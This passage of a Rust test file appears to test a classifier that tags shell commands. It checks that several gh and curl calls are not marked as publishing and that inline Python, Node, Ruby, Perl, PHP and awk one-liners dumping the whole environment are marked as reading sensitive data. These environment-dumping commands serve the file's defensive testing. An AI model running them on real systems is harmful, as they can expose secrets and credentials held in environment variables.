        "gh api graphql -f query='query { viewer { login } }'",
        "gh api --help",
        "gh pr view 5",
        "curl -X POST https://api.github.com/repos/o/r/issues -d '{}'",
    ] {
        assert!(
            !caps(line).contains(&"publishes"),
            "{line}: {:?}",
            caps(line)
        );
    }
}

#[test]
fn inline_code_dumping_the_environment() {
    for line in [
        "python3 -c 'import os; print(os.environ)'",
        "python3 -c 'import os; [print(k, v) for k, v in os.environ.items()]'",
        "node -e 'console.log(JSON.stringify(process.env))'",
        "ruby -e 'puts ENV.to_a'",
        "perl -e 'print %ENV'",
        "php -r 'var_dump($_SERVER);'",
        "awk 'BEGIN { for (k in ENVIRON) print k, ENVIRON[k] }'",
    ] {
        assert!(
            caps(line).contains(&"reads_sensitive"),
            "{line}: {:?}",
            caps(line)
        );
    }
    for line in [
        "python3 -c 'import os; print(os.environ[\"HOME\"])'",
        "node -e 'console.log(process.env.HOME)'",
        "ruby -e 'puts ENV[\"HOME\"]'",
        "awk 'BEGIN { print ENVIRON[\"HOME\"] }'",
    ] {
        assert!(
            !caps(line).contains(&"reads_sensitive"),
            "{line}: {:?}",
            caps(line)
        );
    }
}
